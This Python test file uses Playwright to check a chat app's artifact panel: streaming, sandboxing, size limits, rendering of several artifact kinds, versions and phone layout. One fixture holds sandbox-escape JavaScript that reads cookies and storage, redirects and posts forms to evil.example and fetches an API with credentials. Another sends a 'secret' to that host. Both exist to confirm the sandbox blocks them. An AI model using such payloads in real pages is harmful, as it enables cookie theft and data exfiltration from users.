"""Artifacts: made, changed, shared, and kept in their frame."""

import json
from collections.abc import Callable

import pytest
from playwright.async_api import FrameLocator, Page, ViewportSize, expect

from endpoints.simulator.script import Script
from endpoints.simulator.testing import Remote
from tests.browser.talk import answers, finished, say, slowly
from tests.browser.window import Window

pytestmark = pytest.mark.browser

PHONE: ViewportSize = {"width": 390, "height": 844}
PANEL = ".artifact-panel"
Written = Callable[[str, str], str]


def artifact(source: str, kind: str = "html", title: str = "Made") -> str:
    """Return an answer that holds one artifact."""
    opening = f'<artifact id="made" type="{kind}" title="{title}">'
    return f"Look:\n\n{opening}\n{source}\n</artifact>\n\nThat is all."


def inside(page: Page) -> FrameLocator:
    """Return what the open artifact's frame shows."""
    return page.frame_locator(f"{PANEL} iframe")


async def made(page: Page, azure: Remote, answer: str) -> None:
    """Have an answer written and open its artifact."""
    azure.script("gpt-4o", Script(answer=answer))
    await say(page, "Make it")
    await finished(page)
    if not await page.locator(PANEL).count():
        await page.locator("artifact-card button").last.click()


COUNTER = """<!doctype html><title>t</title>
<button onclick="this.textContent++">0</button>
<p id="when">written</p>"""


async def test_a_page_shows_while_it_is_written(page: Page, azure: Remote) -> None:
    long = COUNTER + "<p>more and more words</p>" * 60
    azure.script("gpt-4o", Script(answer=artifact(long), stall_at=150))
    await say(page, "Make a counter")
    await expect(inside(page).locator("#when")).to_have_text("written")
    assert await answers(page).last.get_attribute("data-status") == "streaming"
    await page.click(".composer__send")
    await expect(answers(page).last).to_have_attribute("data-status", "stopped")


@pytest.mark.parametrize("speed", [0, 200], ids=["at once", "in pieces"])
async def test_a_page_is_written_beside_the_chat_and_then_runs(
    page: Page, azure: Remote, speed: int
) -> None:
    long = COUNTER + "<p>more and more words</p>" * 60
    azure.script("gpt-4o", slowly(artifact(long), speed))
    await say(page, "Make a counter")
    await finished(page)
    await expect(inside(page).locator("#when")).to_have_text("written")
    button = inside(page).locator("button")
    await button.click()
    await expect(button).to_have_text("1")
    await expect(page.locator("chat-message markdown-text").last).not_to_contain_text(
        "doctype"
    )


ESCAPES = """<!doctype html><body><script>
const told = {};
const note = (name, value) => { told[name] = String(value); };
const attempt = (name, deed) => {
  try { note(name, deed()); } catch (e) { note(name, "refused"); }
};
attempt("cookie", () => document.cookie || "none");
attempt("storage", () => localStorage.length);
attempt("parent", () => parent.document.title);
attempt("top", () => { top.location = "https://evil.example/top"; return "asked"; });
const away = "https://evil.example/popup";
attempt("popup", () => window.open(away) ? "opened" : "refused");
attempt("origin", () => self.origin);
attempt("frame", () => parent.frames.length && parent.location.href);
const form = document.createElement("form");
form.action = "https://evil.example/form";
document.body.append(form);
attempt("form", () => { form.submit(); return "asked"; });
const load = (name, tag, about) => new Promise((done) => {
  const element = Object.assign(document.createElement(tag), about);
  element.onload = () => { note(name, "loaded"); done(); };
  element.onerror = () => { note(name, "refused"); done(); };
  document.body.append(element);
});
const ask = (name, deed) =>
  deed().then(() => note(name, "answered"), () => note(name, "refused"));
const socket = () => new Promise((done, fail) => {
  const made = new WebSocket(HOME.replace("http", "ws") + "/ws/");
  made.onopen = done; made.onerror = fail;
});
Promise.all([
  ask("fetch", () => fetch(HOME + "/api/config", { credentials: "include" })),
  ask("elsewhere", () => fetch("https://evil.example/", { mode: "no-cors" })),
  ask("socket", socket),
  load("image", "img", { src: HOME + "/static/img/mark.svg" }),
  load("script", "script", { src: HOME + "/static/vendor/react.js" }),
  load("style", "link", { rel: "stylesheet", href: HOME + "/static/css/panel.css" }),
]).then(() => { document.body.textContent = JSON.stringify(told); });
</script>"""


async def test_what_runs_in_it_reaches_nothing(
    page: Page, azure: Remote, windows: list[Window]
) -> None:
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    home = page.url.rstrip("/")
    await made(page, azure, artifact(ESCAPES.replace("HOME", json.dumps(home))))
    await expect(inside(page).locator("body")).to_contain_text("cookie")
    told = json.loads(await inside(page).locator("body").inner_text())
    assert told.pop("top") in ("asked", "refused")
    assert told.pop("form") in ("asked", "refused")
    assert told.pop("origin") == "null"
    assert set(told.values()) == {"refused"}, told
    assert page.url.startswith(home)
    assert len(page.context.pages) == 1
    assert not [url for url in asked if "evil.example" in url]
    note = page.locator(f"{PANEL} .artifact-note")
    await expect(note).to_contain_text("no network")
    windows[0].problems.clear()  # what Chromium says of each attempt


async def test_it_cannot_lead_its_frame_elsewhere(
    page: Page, azure: Remote, windows: list[Window]
) -> None:
    asked: list[str] = []
    await page.route("https://evil.example/**", lambda route: route.abort())
    page.on("request", lambda request: asked.append(request.url))
    leave = "<p>here</p><script>location = 'https://evil.example/?secret'</script>"
    await made(page, azure, artifact(leave))
    problem = page.locator(f"{PANEL} .artifact-problem")
    await expect(problem).to_contain_text("stopped")
    assert not [url for url in asked if "evil.example" in url]
    windows[0].problems.clear()


async def test_a_page_that_hangs_is_stopped_and_the_chat_goes_on(
    page: Page, azure: Remote
) -> None:
    await made(page, azure, artifact("<script>for (;;) {}</script>"))
    problem = page.locator(f"{PANEL} .artifact-problem")
    await expect(problem).to_contain_text("was stopped")
    await expect(page.locator(f"{PANEL} iframe")).to_have_count(0)
    azure.script("gpt-4o", Script(answer="Still here."))
    await say(page, "Are you there?")
    await expect(answers(page).last).to_contain_text("Still here.")


async def test_what_is_too_large_is_said_and_can_be_saved(
    page: Page, azure: Remote
) -> None:
    azure.script("gpt-4o", Script(answer=artifact("small")))
    await say(page, "Make it")
    await finished(page)
    text = artifact("x" * 2_500_000)
    await page.evaluate(
        "text => { const it = document.querySelector('chat-app').chat.conversation;"
        "const last = it.path().at(-1);"
        "it.put({...last, content: [{type: 'text', text}]}) }",
        text,
    )
    await page.locator("artifact-card button").last.click()
    await expect(page.locator(f"{PANEL} .artifact-problem")).to_contain_text("2.5 MB")
    async with page.expect_download() as saved:
        await page.get_by_role("button", name="Download").last.click()
    assert (await saved.value).suggested_filename == "Made.html"


@pytest.mark.parametrize(
    ("kind", "source", "shown"),
    [
        ("svg", '<svg viewBox="0 0 9 9"><circle r="3"/></svg>', "svg circle"),
        (
            "react",
            'import { useState } from "react";\n'
            "export default () => <b id='r'>{useState<number>(4)[0]}</b>;",
            "#r",
        ),
        (
            "chart",
            '{"data": {"values": [{"a": 1, "b": 2}]}, "mark": "bar",'
            ' "encoding": {"x": {"field": "a"}, "y": {"field": "b"}}}',
            "svg .mark-rect path",
        ),
    ],
)
async def test_kinds_with_code_of_their_own_are_drawn(
    page: Page, azure: Remote, kind: str, source: str, shown: str
) -> None:
    await made(page, azure, artifact(source, kind))
    await expect(inside(page).locator(shown)).to_have_count(1)


async def test_a_package_that_is_not_there_is_named(
    page: Page, azure: Remote, windows: list[Window]
) -> None:
    source = 'import { Pie } from "recharts";\nexport default () => <Pie/>;'
    await made(page, azure, artifact(source, "react"))
    await expect(page.locator(f"{PANEL} .artifact-note")).to_contain_text("recharts")
    windows[0].problems.clear()


async def test_a_table_sorts_by_its_heads(page: Page, azure: Remote) -> None:
    await made(page, azure, artifact("Name,Age\nA,9\nB,10\nC,", "csv"))
    first = page.locator(f"{PANEL} tbody tr:first-child td:first-child")
    await page.get_by_role("button", name="Age").press("Enter")
    await expect(first).to_have_text("A")
    await page.get_by_role("button", name="Age").press("Enter")
    await expect(first).to_have_text("C")
    await expect(page.locator(f"{PANEL} th").last).to_have_attribute(
        "aria-sort", "descending"
    )


async def test_an_edited_source_and_an_asked_change_are_versions(
    page: Page, azure: Remote
) -> None:
    await made(page, azure, artifact("<p>one</p>"))
    await page.get_by_role("button", name="Edit the source").click()
    await page.keyboard.press("Control+a")
    await page.keyboard.type("<p>two</p>")
    await page.keyboard.press("Control+Enter")
    await expect(inside(page).locator("p")).to_have_text("two")
    count = page.locator(".artifact-panel__count")
    await expect(count).to_have_text("2/2")
    azure.script("gpt-4o", Script(answer=artifact("<p>three</p>")))
    await page.fill(".artifact-ask__field", "Make it three")
    await page.press(".artifact-ask__field", "Enter")
    await expect(count).to_have_text("3/3")
    await expect(inside(page).locator("p")).to_have_text("three")
    bubble = page.locator(".message__bubble").last
    await expect(bubble).to_have_text("Change “Made”: Make it three")
    await page.locator(PANEL).get_by_role("button", name="Previous version").click()
    await expect(inside(page).locator("p")).to_have_text("two")
    await page.reload()
    await page.locator("artifact-card button").last.click()
    await expect(count).to_have_text("3/3")


async def test_the_panel_is_a_sheet_on_the_phone_and_closes_by_keyboard(
    page: Page, azure: Remote
) -> None:
    await page.set_viewport_size(PHONE)
    azure.script("gpt-4o", Script(answer=artifact("<p>small</p>")))
    await say(page, "Make it")
    await finished(page)
    await expect(page.locator(PANEL)).to_have_count(0)
    card = page.locator("artifact-card button")
    await card.press("Enter")
    await expect(inside(page).locator("p")).to_have_text("small")
    box = await page.locator(PANEL).bounding_box()
    assert box is not None
    assert box["width"] == PHONE["width"]
    await page.keyboard.press("Escape")
    await expect(page.locator(PANEL)).to_have_count(0)
    await expect(card).to_be_focused()


async def test_nothing_of_it_loads_before_it_is_used(page: Page) -> None:
    names = await page.evaluate(
        "performance.getEntriesByType('resource').map(({ name }) => name)"
    )
    for late in ("open-panel", "react", "vega", "artifact-bench", "mermaid", "frame"):
        assert not [name for name in names if f"/{late}" in name]
